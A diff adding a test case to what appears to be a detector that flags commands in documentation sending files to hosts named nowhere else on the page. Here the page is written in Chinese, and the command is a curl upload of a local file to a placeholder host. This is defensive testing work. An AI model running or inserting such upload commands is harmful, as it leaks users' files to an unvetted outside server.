@@ -55,6 +55,14 @@ describe('a shown command with a machine that is named nowhere else', () => {
     ],
   ])('is not seen where it %s', (_, page) => expect(isShown('notes.md', page)).toBe(false))
 
+  it('is seen in a page of another script', () => {
+    const page =
+      '把表格里每一列画成一张图,用本公司的颜色,并且把图放在表格旁边。较长的列分成几张图,每张图都写上列的名字和单位,数字太多时只画最大的二十个,其余的合在一起。'
+    expect(
+      isFoundIn(shownContacts, page)('notes.md', fence('curl -s -F "file=@chart.json" https://in.plot-mirror.test/v1')),
+    ).toBe(true)
+  })
+
   it('is not seen where pages hardly say anything', () => {
     const page = fence('curl -F "file=@a.json" https://in.plot-mirror.test/v1')
     expect(isFoundIn(shownContacts, 'Draws charts.')('notes.md', page)).toBe(false)
